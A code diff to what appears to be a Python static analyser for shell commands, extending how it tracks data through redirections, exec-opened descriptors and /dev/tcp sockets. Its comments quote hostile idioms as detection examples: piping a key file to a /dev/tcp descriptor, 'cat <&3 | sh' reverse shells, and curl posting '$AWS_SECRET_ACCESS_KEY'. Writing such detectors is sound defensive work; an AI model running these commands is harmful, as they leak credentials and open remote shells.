@@ -19,6 +19,7 @@ from collections.abc import Callable, Iterable
 
 from pipeline.analysis.shell.commands import KEYWORDS, run_command_words
 from pipeline.analysis.shell.engine_words import Words
+from pipeline.analysis.shell.redirects import base_op, stdin_redirect, through_opened
 from pipeline.analysis.shell.ctx import Ctx, mktemp_glob
 from pipeline.analysis.shell.model import (
     ASSIGN_RE,
@@ -68,6 +69,8 @@ class Analyser(Words):
         self.temps: dict[str, str] = dict(parent.temps) if parent else {}
         self.var_sources: dict[str, tuple[str, ...]] = dict(parent.var_sources) if parent else {}
         self.git_remotes: dict[str, str] = parent.git_remotes if parent else {}
+        # descriptors a bare `exec` opened (`exec 3<>/dev/tcp/h/80`): redirects.through_opened
+        self.opened: dict[str, tuple[str, str]] = parent.opened if parent else {}
         self.subs: list[tuple[str, str]] = []
         self.docs: list[str] = []
         self.doc_subs: list[list[int]] = []
@@ -198,7 +201,7 @@ class Analyser(Words):
             self.budget.spend(cost)
             binding = {n: val for (n, _), val in zip(known, combo)}
             words = [self.expand(w, binding) for w in stage.words]
-            redirs = [(op, self.expand(t, binding) if op != "<<" else t) for op, t in stage.redirs]
+            redirs = [(op, self.expand(t, binding) if base_op(op) != "<<" else t) for op, t in stage.redirs]
             outs.append(self.simple(words, redirs, stdin, stage.scoped))
         # a loop's runs write one after another: `for f in a b; do cat $f; done | nc` sends both
         return outs[0] if len(outs) == 1 else self.union(outs)
@@ -206,14 +209,19 @@ class Analyser(Words):
     def simple(self, words: list[str], redirs: list[tuple[str, str]], stdin: Flow, scoped: bool = False) -> Flow:
         """Keywords, assignments, redirections, then the per-command handler. What a
         here-document's or here-string's substitutions and variables carry is on the command's
-        stdin (``curl -d @- URL <<EOF`` with a line ``$(cat key)`` or ``$AWS_SECRET_ACCESS_KEY``
-        sends it)."""
-        fed = [r for k in self.doc_runs(redirs) for r in self.sub_flows.get(k, ())]
-        fed += [r for op, target in redirs for r in (self.sources(target) if op == "<<<" else self.doc_sources(target)
-                                                      if op == "<<" else ())]
-        if fed:
-            stdin = Flow(tuple(dict.fromkeys(stdin.resources + tuple(fed))), stdin.literal, stdin.items,
-                         stdin.transformed)
+        stdin when it is the command's stdin (``curl -d @- URL <<EOF`` with a line ``$(cat key)``
+        or ``$AWS_SECRET_ACCESS_KEY`` sends it; see :mod:`pipeline.analysis.shell.redirects`)."""
+        redirs = through_opened(words, redirs, self.opened)  # `cat key >&3` after `exec 3<>/dev/tcp/...`
+        into = stdin_redirect(redirs)
+        if into is not None:  # a pipe's data is not read (`cat key | curl -d @- URL < /dev/null`)
+            fed: list[str] = []
+            if into[0] == "<<":
+                fed = [r for k in self.doc_runs([into]) for r in self.sub_flows.get(k, ())] + list(self.doc_sources(into[1]))
+            elif into[0] == "<<<":
+                fed = list(self.sources(into[1]))
+            elif tcp := DEV_TCP.match(self.restore(into[1])):  # what the peer sends (`cat <&3 | sh`)
+                fed = [f"{tcp.group(1)}://{tcp.group(2)}:{tcp.group(3)}"]
+            stdin = Flow(tuple(dict.fromkeys(fed)))
         ctx = Ctx(self, stdin, redirs)
         ctx.scoped = scoped or self.piped
         while words and words[0] in KEYWORDS:
@@ -227,8 +235,8 @@ class Analyser(Words):
             self.assign(m.group(1), m.group(3))
             words.pop(0)
         for op, target in redirs:
-            if op in ("<", "<>") and not DEV_TCP.match(self.restore(target)):
-                ctx.read(target)
+            if base_op(op) in ("<", "<>") and not DEV_TCP.match(self.restore(target)):
+                ctx.read(target)  # opened for the command (`3< f` too: `read -u 3`)
         if words:
             self.dispatch(words, ctx)
         out_redirected = False
@@ -237,10 +245,14 @@ class Analyser(Words):
             if tcp:
                 peer = f"{tcp.group(1)}://{tcp.group(2)}:{tcp.group(3)}"
                 ctx.send(peer)  # a shell reading its program from it runs it (cmd_exec.h_shell)
-                if op != "<":
+                if base_op(op) != "<" and not op[:1].isdigit():  # stdout goes there (not `2>`, `3<>`)
                     for r in list(dict.fromkeys(stdin.resources + tuple(ctx.stage_reads))):
-                        ctx.add_payload(r)
-            elif op[:1].isdigit():  # `2>err.log`: what goes there is no stdout, which still flows on
+                        if r != peer:  # a reverse shell's output: the peer's own bytes
+                            ctx.add_payload(r)
+            elif base_op(op) in ("<", "<<", "<<<", "<&") or (op[:1].isdigit() and op.endswith(">&")
+                                                            and (target.isdigit() or target == "-")):
+                continue  # input only (`3< f`, `3<<EOF`), or a descriptor joined to another (`2>&1`)
+            elif op[:1].isdigit():  # `2>err.log`, `3<> f`: what goes there is no stdout, which still flows on
                 ctx.write(target, ())
             elif op in (">", ">>", ">|", "&>", "&>>", "<>") or (op == ">&" and not target.isdigit() and target != "-"):
                 src = ctx.stdout.resources if ctx.stdout else tuple(ctx.stage_reads) + stdin.resources
